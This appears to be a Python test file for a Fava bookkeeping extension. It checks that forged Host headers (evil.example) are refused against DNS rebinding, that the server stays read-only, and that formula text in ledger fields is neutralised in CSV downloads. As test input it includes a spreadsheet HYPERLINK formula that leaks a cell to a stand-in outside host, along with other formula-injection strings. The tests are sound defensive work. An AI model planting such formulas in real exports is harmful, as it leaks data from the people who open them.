"""`wuye fava` answers only requests for the address it serves (DNS rebinding), stays read-only, and
no text in the books comes out of a download as a live spreadsheet formula."""
from __future__ import annotations

import csv
import io
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

import reports_scenario as scenario
from fava_helpers import PORT, SERVED

from fava_ext.guard import allowed_hosts

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("host", [SERVED, f"localhost:{PORT}", "LOCALHOST:5000"])
def test_served_hosts_are_answered(fava_client, host):
    client, slug, _ = fava_client
    r = client.get(f"/{slug}/extension/WuyeRates/", headers={"Host": host})
    assert r.status_code == 200


@pytest.mark.parametrize("host", ["evil.example:5000", "evil.example", "127.0.0.1", "127.0.0.1:5001",
                                  "localhost", "127.0.0.1.evil.example:5000", "192.168.1.5:5000"])
@pytest.mark.parametrize("path", ["/{slug}/extension/WuyeRates/data", "/{slug}/api/errors", "/{slug}/income_statement/",
                                  "/"])
def test_other_hosts_are_refused(fava_client, host, path):
    client, slug, _ = fava_client
    r = client.get(path.format(slug=slug), headers={"Host": host})
    assert r.status_code == 403
    assert "测试小区".encode() not in r.data and b"1-102" not in r.data


def test_read_only_still_holds_with_the_served_host(fava_client):
    client, slug, _ = fava_client
    assert client.post(f"/{slug}/api/add_entries", json={}).status_code == 401
    assert client.put(f"/{slug}/api/source", json={}).status_code == 401
    assert client.post(f"/{slug}/api/add_entries", json={}, headers={"Host": "evil.example:5000"}).status_code == 403


def test_allowed_hosts_of_a_given_address():
    assert allowed_hosts("192.168.1.5", 8080) == {"192.168.1.5:8080", "127.0.0.1:8080", "localhost:8080"}
    assert "[::1]:5000" in allowed_hosts("::1", 5000)
    assert allowed_hosts("127.0.0.1", 5000, ["Books.Example"]) == {"127.0.0.1:5000", "localhost:5000",
                                                                    "books.example"}


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _get(url: str, host: str | None = None) -> tuple[int, bytes]:
    req = urllib.request.Request(url, headers={"Host": host} if host else {})
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def test_real_server_refuses_a_foreign_host(fava_books, tmp_path):
    """`wuye fava` itself on 127.0.0.1: the served address answers, a rebinding Host is refused, POST is 401."""
    books = tmp_path / "books"
    import shutil

    shutil.copytree(fava_books, books, ignore=shutil.ignore_patterns(".wuye"))
    port = _free_port()
    env = dict(os.environ, **scenario.ENV)
    proc = subprocess.Popen([sys.executable, "-m", "cli", "--books", str(books), "fava", "--port", str(port)],
                            cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.time() + 60
        while True:
            try:
                status, body = _get(base + "/")
                break
            except (urllib.error.URLError, ConnectionError):
                if time.time() > deadline or proc.poll() is not None:
                    raise AssertionError(proc.stderr.read().decode() if proc.poll() is not None else "no server")
                time.sleep(0.3)
        assert status == 200
        status, body = _get(base + "/", host=f"evil.example:{port}")
        assert status == 403
        status, _ = _get(f"http://localhost:{port}/")
        assert status == 200
        req = urllib.request.Request(base + "/x/api/add_entries", data=b"{}", method="POST",
                                     headers={"Content-Type": "application/json"})
        with pytest.raises(urllib.error.HTTPError) as exc:
            urllib.request.urlopen(req, timeout=30)
        assert exc.value.code == 401
    finally:
        proc.terminate()
        proc.wait(timeout=20)


HYPERLINK = '=HYPERLINK("http://x.example/?a"&A1,"ok")'


def test_formula_ref_is_neutralised_end_to_end(fava_client):
    """A payment ref typed as a formula is stored with a leading apostrophe; Fava's query CSV download
    and our export carry it inert."""
    client, slug, books = fava_client
    scenario.wuye(books, "pay", "1-101", "10.00", "--channel", "cash", "--date", "2026-03-31", "--ref", HYPERLINK,
                  "--payer", "+owner")
    text = (books / "txns/2026/2026-03.beancount").read_text(encoding="utf-8")
    assert "ref: \"'=HYPERLINK(" in text and 'ref: "=' not in text
    assert 'payer: "other \'+' in text  # the payer text is neutralised, then masked
    # Fava's own query download: no cell starts with a formula character
    deadline = time.time() + 10
    while True:
        r = client.get(f"/{slug}/download-query/query_result.csv",
                       query_string={"query_string": "SELECT date, narration, entry_meta('ref') AS ref, position "
                                                     "WHERE account ~ 'Unit:1-101'"})
        assert r.status_code == 200, r.data[:300]
        rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
        refs = [row[2] for row in rows[1:] if "HYPERLINK" in row[2]]
        if refs or time.time() > deadline:
            break
        time.sleep(0.3)
    assert refs and all(c.startswith("'=HYPERLINK(") for c in refs), refs
    for row in rows[1:]:
        for c in row:
            assert not c or c[0] not in "=+@\t\r", row
            assert not c.startswith("-") or c[1:2].isdigit(), row  # a negative amount stays a number


def test_legacy_formula_text_is_inert_in_fava_download(fava_client):
    """Books written before the input rule: a ledger string '=...' is made inert by the download guard."""
    client, slug, books = fava_client
    month = books / "txns/2026/2026-03.beancount"
    month.write_text(month.read_text(encoding="utf-8") + '\n2026-03-31 * "=1+2" "@SUM(A1)"\n'
                     '  Assets:Cash  1.00 CNY\n  Income:Other\n', encoding="utf-8")
    deadline = time.time() + 10
    while True:
        r = client.get(f"/{slug}/download-query/query_result.csv",
                       query_string={"query_string": "SELECT payee, narration, position WHERE payee = '=1+2'"})
        rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
        if len(rows) > 1 or time.time() > deadline:
            break
        time.sleep(0.3)
    assert rows[1][:2] == ["'=1+2", "'@SUM(A1)"], rows
    assert [r[2] for r in rows[1:]] == ["1.0", "-1.0"], rows  # numbers stay numbers
